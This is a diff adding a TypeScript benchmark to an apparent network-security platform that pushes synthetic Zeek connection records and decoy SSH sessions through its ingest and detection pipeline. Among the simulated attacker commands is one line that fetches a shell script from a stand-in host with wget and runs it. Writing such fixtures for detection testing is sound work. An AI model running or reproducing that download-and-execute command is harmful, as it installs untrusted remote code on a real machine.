@@ -1,0 +1,153 @@
+/**
+ * Events through normalise, stream, detect and store in one process, as the platform runs them: a mix of background and of decoy sessions,
+ * from many sources. Done when every event is analysed and stored.
+ */
+import { mkdtempSync, rmSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import type { SensorEvent } from '@netsentinel/contracts/event';
+import { systemClock } from '@netsentinel/kernel/clock';
+import { silentLogger } from '@netsentinel/kernel/log';
+import { pack } from '@netsentinel/kernel/pack';
+import { normaliseSensorEvent } from '@netsentinel/normalise/decoy/decoy.parser';
+import { compilePolicy } from '@netsentinel/respond/engine';
+import { RespondConfig } from '@netsentinel/respond/respond.config';
+import { openDuckDbEventStore } from '@netsentinel/store/events/duckdb/duckdb-events.store';
+import { openSqliteStateStore } from '@netsentinel/store/state/sqlite/sqlite-state.store';
+import { openEmbeddedStream } from '@netsentinel/stream/embedded/embedded-stream';
+import { StreamConfig } from '@netsentinel/stream/stream.config';
+import { createAnalysis } from '../platform/analysis.ts';
+import { startStoreWriter } from '../platform/store-writer.ts';
+import { residentBytes } from './whole-product.ts';
+
+const BATCH = 500;
+/** Events that may be ahead of the slower consumer: as a full stream would, we wait then. */
+const MAX_AHEAD = 50_000;
+const SOURCES = 5_000;
+
+export async function benchIngest({ events: total }: { events: number }): Promise<Record<string, number>> {
+  const folder = mkdtempSync(join(tmpdir(), 'netsentinel-ingest-'));
+  const clock = systemClock;
+  const log = silentLogger;
+  const state = await openSqliteStateStore({ file: join(folder, 'state.db'), log, clock });
+  const store = await openDuckDbEventStore({ directory: join(folder, 'events'), log, clock });
+  const stream = await openEmbeddedStream({ directory: join(folder, 'stream'), ...StreamConfig.parse({}), clock, log });
+  let incidents = 0;
+  const analysis = createAnalysis({
+    stream,
+    state,
+    clock,
+    log,
+    policy: compilePolicy(RespondConfig.parse({})),
+    onIncident: () => incidents++,
+    onAction: () => {},
+  });
+  const writer = await startStoreWriter({ stream, store, clock, log });
+  await analysis.start();
+  let peakRss = 0;
+  const watch = setInterval(() => (peakRss = Math.max(peakRss, residentBytes(process.pid))), 100);
+  try {
+    const started = performance.now();
+    const done = (): number => Math.min(writer.stored, analysis.counters.events);
+    for (let sequence = 1; sequence <= total;) {
+      const batch = [];
+      for (; batch.length < BATCH && sequence <= total; sequence++) {
+        const result = normaliseSensorEvent(sampleEvent(sequence), {
+          sensor: { id: 'bench', type: 'bench' },
+          epoch: 'bench0001',
+          sequence,
+          receivedAt: clock.now(),
+          sourceVerified: true,
+        });
+        const event = result.ok ? result.value : result.error;
+        batch.push({
+          key: event.netsentinel.actor,
+          origin: { producer: 'bench', epoch: 'bench0001', sequence },
+          value: pack(event),
+        });
+      }
+      await stream.append(batch);
+      while (sequence - done() > MAX_AHEAD) await new Promise((resolve) => setTimeout(resolve, 2));
+    }
+    while (done() < total) await new Promise((resolve) => setTimeout(resolve, 5));
+    const seconds = (performance.now() - started) / 1000;
+    const kept = await store.describe();
+    return {
+      events: total,
+      events_per_second: Math.round(total / seconds),
+      rss_mb: Math.round(peakRss / 1024 / 1024),
+      stored: kept.events,
+      analysed: analysis.counters.events,
+      failures: analysis.counters.failures,
+      incident_changes: incidents,
+      bytes_per_event: Math.round(kept.bytes / Math.max(1, kept.events)),
+    };
+  } finally {
+    clearInterval(watch);
+    await analysis.stop();
+    await writer.stop();
+    await Promise.all([stream.close(), store.close(), state.close()]);
+    rmSync(folder, { recursive: true, force: true });
+  }
+}
+
+/** 1 in 50 is an attacker's move at a decoy, the rest is the background that sensors see. The same number is the same event. */
+export function sampleEvent(n: number): SensorEvent {
+  const time = new Date(1_795_000_000_000 + n * 7).toISOString();
+  const source = {
+    ip: `198.${18 + (((n * 7919) % SOURCES) >> 12)}.${(((n * 7919) % SOURCES) >> 4) & 255}.${(n * 7919) & 15}`,
+    port: 1024 + (n % 60_000),
+  };
+  const destination = { ip: '203.0.113.9', port: 22 };
+  if (n % 50 === 0) {
+    const commands = [
+      'uname -a',
+      'cat /proc/cpuinfo | grep name | wc -l',
+      'cd /tmp; wget http://192.0.2.1/x.sh; sh x.sh',
+      'ls -la',
+      'free -m',
+      'w',
+    ];
+    return {
+      '@timestamp': time,
+      event: {
+        kind: 'event',
+        category: ['process'],
+        type: ['start'],
+        action: 'ssh-command',
+        dataset: 'netsentinel.ssh',
+        module: 'netsentinel',
+      },
+      source,
+      destination,
+      network: { transport: 'tcp', protocol: 'ssh', type: 'ipv4' },
+      process: { command_line: commands[n % commands.length]! },
+      user: { name: 'root' },
+      netsentinel: { decoy: { id: 'ssh-1', type: 'ssh' }, session: { id: `bench~${n % 997}`, sequence: n } },
+    };
+  }
+  return {
+    '@timestamp': time,
+    event: {
+      kind: 'event',
+      category: ['network'],
+      type: ['connection', 'end'],
+      action: 'connection-finished',
+      outcome: 'success',
+      dataset: 'zeek.connection',
+      module: 'zeek',
+      duration: (n % 10_000) * 1_000_000,
+    },
+    source: { ...source, bytes: n % 4096, packets: n % 40 },
+    destination: { ...destination, port: [443, 80, 53, 22, 3389][n % 5]!, bytes: n % 65_536, packets: n % 60 },
+    network: {
+      transport: n % 5 === 2 ? 'udp' : 'tcp',
+      protocol: ['tls', 'http', 'dns', 'ssh', 'rdp'][n % 5]!,
+      type: 'ipv4',
+      direction: 'inbound',
+      bytes: n % 70_000,
+      community_id: `1:${(n * 2654435761) % 2 ** 32}`,
+    },
+    message: `connection ${n} finished normally after ${n % 10_000} ms with history ShADadFf`,
+  };
+}
